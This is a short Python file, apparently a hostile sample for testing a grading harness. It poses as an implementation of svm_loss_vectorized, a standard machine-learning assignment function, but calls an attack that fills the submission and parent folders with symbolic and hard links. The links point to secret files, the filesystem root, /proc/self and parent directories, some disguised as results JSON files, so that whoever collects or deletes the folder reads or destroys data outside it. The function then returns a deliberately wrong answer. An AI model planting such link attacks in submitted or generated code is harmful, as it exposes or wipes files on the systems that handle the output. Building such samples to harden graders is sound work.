"""Fills its folder with links to everything, for whoever removes or collects it."""

import contextlib
import os

import kit
from targets import TARGETS


@kit.once
def attack():
    for n, place in enumerate(
        (*TARGETS["folders"], *TARGETS["secret_files"], "/", "..", "/proc/self")
    ):
        for folder in (".", "..", "../submission"):
            with contextlib.suppress(OSError):
                os.symlink(place, f"{folder}/link{n}")
                os.symlink(place, f"{folder}/results{n}.json")
            with contextlib.suppress(OSError):
                os.link(place, f"{folder}/hard{n}")
                kit.harm(f"made a hard link to {place}")


def svm_loss_vectorized(W, X, y, reg):
    attack()
    return kit.wrong(W, X, y, reg)
